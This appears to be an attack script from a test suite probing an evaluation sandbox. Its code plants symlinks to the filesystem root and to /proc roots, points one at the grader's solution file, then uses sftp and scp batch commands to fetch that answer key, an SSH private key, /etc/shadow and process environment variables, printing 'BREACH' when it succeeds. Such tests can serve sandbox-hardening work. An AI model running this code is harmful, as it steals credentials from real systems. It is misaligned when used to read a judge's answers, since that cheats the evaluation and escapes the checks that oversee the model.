"""Puts a link to the solution where the judge reads the answer on an instance, and goes through links by sftp and scp.

kind: read
answers: visit
says: where is the judge's file
strong: holds
partial: not run: no instance answers there
none: not run: no instance answers there
"""

import os

THERE = r"""
import os
home = os.path.expanduser("~")
os.symlink("/", f"{home}/root")
os.symlink("/proc/self/root", f"{home}/self")
os.symlink("/proc/1/root", f"{home}/first")
os.symlink("../" * 20, f"{home}/up")
try:
    os.remove(f"{home}/parcel")
except OSError:
    pass
os.symlink(aim.solution, f"{home}/parcel")
print("where is the judge's file?")
"""


def attack():
    print(aim.there(THERE))
    orders = "".join(
        f"-get {start}{path} got\n-ls {start}{os.path.dirname(path)}\n-get {start}/proc/1/environ got\n"
        for start in ("", "root", "self", "first", "up")
        for path in (aim.solution, aim.record, f"{aim.home}/.ssh/id_ed25519", "/etc/shadow")
    )
    print(aim.tool("sftp", "-b", "-", "INSTANCE", given=orders.encode())[-2000:])
    print(aim.tool("scp", "-O", f"INSTANCE:root{aim.solution}", "got"))
    if os.path.exists("got"):
        with open("got", "rb") as file:
            print("BREACH:", file.read(200))
